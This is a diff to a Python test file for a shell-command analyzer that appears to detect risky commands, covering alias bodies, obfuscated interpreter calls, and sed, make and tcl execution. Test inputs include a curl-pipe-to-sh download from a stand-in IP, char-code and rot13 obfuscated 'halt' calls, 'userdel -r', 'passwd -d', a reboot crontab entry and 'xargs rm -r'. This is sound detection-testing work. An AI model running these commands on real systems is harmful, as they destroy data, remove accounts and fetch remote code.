@@ -625,7 +625,21 @@ def test_parse_ssh_remote_origin() -> None:
 
 def test_parse_alias_not_reexpanded_in_itself() -> None:
     result = parse("alias ls='ls; id'; ls")
-    assert [c.name for c in result.commands] == ["alias", "ls", "id"]
+    # The body is judged where it is defined (delayed: it runs whenever the name is typed)
+    # and again where the alias is used; neither time is `ls` expanded inside itself.
+    assert [(c.name, c.origin) for c in result.commands] == [
+        ("alias", "top"),
+        ("ls", "delayed"),
+        ("id", "delayed"),
+        ("ls", "alias"),
+        ("id", "alias"),
+    ]
+
+
+def test_parse_alias_body_is_judged_at_definition() -> None:
+    result = parse("alias gst='git status; curl -s http://198.51.100.3/x | sh'")
+    assert _find(result, "sh").origin == "delayed"
+    assert _find(result, "curl").origin == "delayed"
 
 
 def test_parse_interpreter_reading_network_program_is_dynamic() -> None:
@@ -864,3 +878,51 @@ def test_parse_fast_path_matches_tree_path(command: str, monkeypatch) -> None:
     monkeypatch.setattr(analyzer, "_FAST_PATH", analyzer.re.compile(r"(?!)"))
     slow = _snapshot(parse(command))
     assert fast == slow
+
+
+@pytest.mark.parametrize(
+    "command, argv, label",
+    [
+        (
+            "node -e \"require('child_process').execSync(String.fromCharCode(104,97,108,116))\"",
+            ["halt"],
+            "decode",
+        ),
+        ("perl -e 'system(join(\"\", map { chr } (104,97,108,116)))'", ["halt"], "decode"),
+        ("python3 -c \"import os; os.system(''.join(map(chr, [104,97,108,116])))\"", ["halt"], "decode"),
+        ("python3 -c \"import codecs,os; os.system(codecs.decode('unyg', 'rot_13'))\"", ["halt"], "rot13"),
+    ],
+)
+def test_parse_interpreter_decodes_char_codes_and_rot13(command: str, argv: list[str], label: str) -> None:
+    found = _find(parse(command), *argv)
+    assert label in found.obfuscation, found.obfuscation
+
+
+@pytest.mark.parametrize(
+    "command, argv",
+    [
+        ("tclsh <<< 'exec userdel -r bob'", ["userdel", "-r", "bob"]),
+        ("expect -c 'spawn passwd -d bob; expect eof'", ["passwd", "-d", "bob"]),
+        ("sed 'e' <<< 'userdel -r bob'", ["userdel", "-r", "bob"]),
+        ("sed -n '1e' <<< 'halt'", ["halt"]),
+        ("make --eval='t:; @userdel -r bob' t", ["userdel", "-r", "bob"]),
+        ("make -f - <<< $'all:\\n\\tuserdel -r bob'", ["userdel", "-r", "bob"]),
+    ],
+)
+def test_parse_tcl_sed_and_make_run_their_commands(command: str, argv: list[str]) -> None:
+    assert argv in _argvs(parse(command)), _argvs(parse(command))
+
+
+def test_parse_plain_sed_and_make_run_nothing_extra() -> None:
+    assert _argvs(parse("sed -n 's/a/b/p' notes.txt")) == [["sed", "-n", "s/a/b/p", "notes.txt"]]
+    assert _argvs(parse("make -j4 test")) == [["make", "-j4", "test"]]
+
+
+def test_parse_crontab_file_written_earlier_is_its_input() -> None:
+    result = parse("echo '@reboot /opt/x' > /tmp/ct; crontab /tmp/ct")
+    assert _find(result, "crontab", "/tmp/ct").stdin_text == "@reboot /opt/x\n"
+
+
+def test_parse_ls_d_prints_its_operands_to_xargs() -> None:
+    assert ["rm", "-r", "/srv/a*"] in _argvs(parse("ls -d /srv/a* | xargs rm -r"))
+    assert _find(parse("ls -l /srv | xargs echo"), "xargs").dynamic  # ls -l output is not simulated
